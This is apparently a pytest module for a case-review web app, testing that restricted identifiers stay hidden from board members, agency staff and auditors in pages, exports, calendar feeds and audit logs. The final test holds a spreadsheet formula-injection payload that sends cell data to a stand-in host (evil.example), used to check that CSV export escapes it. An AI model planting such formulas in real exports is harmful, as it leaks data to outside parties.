"""Restricted identifiers reach the review's team only: never board members, agency contributors or auditors."""

from __future__ import annotations

import csv
import io

import pytest

from casereview.audit.models import AuditEvent
from casereview.reviews import services
from casereview.reviews.access import can_see_restricted

SECRET = "Zelphine Quarrington"


def _exports(client, review):
    return {
        "page": client.get(f"/reviews/{review.pk}/"),
        "json": client.get(f"/reviews/{review.pk}/export.json"),
        "csv": client.get("/reviews/export.csv"),
        "list": client.get("/reviews/"),
        "deadlines": client.get("/reviews/deadlines/"),
        "dashboard": client.get("/dashboard/"),
    }


def test_board_margaret_never_sees_restricted_identifiers_on_pages_or_exports(review, client_for, board_margaret):
    for name, response in _exports(client_for(board_margaret), review).items():
        assert response.status_code == 200, name
        assert SECRET not in response.content.decode(), name
    assert "restricted_identifiers" not in client_for(board_margaret).get(f"/reviews/{review.pk}/export.json").json()


def test_board_margaret_never_sees_them_in_a_calendar_feed_either(review, client_for, manager_rob, client):
    client_for(manager_rob).post("/reviews/deadlines/calendar-address/")
    client.logout()
    assert SECRET not in client.get(f"/reviews/calendar/{manager_rob.calendar_feed.token}.ics").content.decode()


def test_police_claire_whose_agency_takes_part_does_not_see_them(review, client_for, police_claire):
    for name, response in _exports(client_for(police_claire), review).items():
        assert SECRET not in response.content.decode(), name


def test_the_review_team_sees_them_on_the_page_and_in_json(review, client_for, manager_rob, reviewer_helen, panel_dev):
    for user in (manager_rob, reviewer_helen, panel_dev):
        client = client_for(user)
        assert SECRET in client.get(f"/reviews/{review.pk}/").content.decode()
        assert client.get(f"/reviews/{review.pk}/export.json").json()["restricted_identifiers"][0]["value"] == SECRET


def test_an_unassigned_reviewer_cannot_open_the_review_at_all(review, client_for, partnership):
    from casereview.core.roles import Role
    from tests.conftest import _make

    other = _make("olu", Role.INDEPENDENT_REVIEWER, partnership, name="Olu Bello")
    assert client_for(other).get(f"/reviews/{review.pk}/").status_code == 404
    assert not can_see_restricted(other, review)


@pytest.mark.parametrize("persona", ["board_margaret", "police_claire", "auditor_ian"])
def test_outside_the_team_nobody_can_see_them(review, persona, request):
    assert not can_see_restricted(request.getfixturevalue(persona), review)


def test_the_audit_log_records_an_identifier_without_its_value(review, manager_rob, now):
    services.add_restricted_identifier(review=review, kind="date_of_birth", label="Child", value="12 March 2026",
                                       by=manager_rob, now=now)
    event = AuditEvent.objects.filter(action="reviews.add_restricted_identifier").get()
    assert "12 March 2026" not in event.summary + str(event.changes)


def test_managers_add_and_remove_identifiers_from_the_review_page(review, client_for, manager_rob):
    client = client_for(manager_rob)
    response = client.post(f"/reviews/{review.pk}/identifiers/add/", {"kind": "address", "label": "Home", "value": ""})
    assert response.status_code == 400 and "Enter the identifier" in response.content.decode()
    client.post(f"/reviews/{review.pk}/identifiers/add/", {"kind": "address", "label": "Home", "value": "1 Mill Lane"})
    identifier = review.restricted_identifiers.get(kind="address")
    client.post(f"/reviews/{review.pk}/identifiers/{identifier.pk}/remove/")
    assert not review.restricted_identifiers.filter(kind="address").exists()
    assert SECRET in client.get(f"/reviews/{review.pk}/").content.decode()


def test_manager_rob_downloads_a_review_list_where_a_formula_typed_as_a_pseudonym_is_plain_text(
        review, client_for, manager_rob):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click for the full record")'
    type(review).objects.filter(pk=review.pk).update(pseudonym=hostile)
    rows = list(csv.DictReader(io.StringIO(client_for(manager_rob).get("/reviews/export.csv").content.decode())))
    row = next(r for r in rows if r["reference"] == review.reference)
    assert row["pseudonym"] == "'" + hostile
    assert row["aware_date"] == "2026-11-02" and row["published_date"] == ""
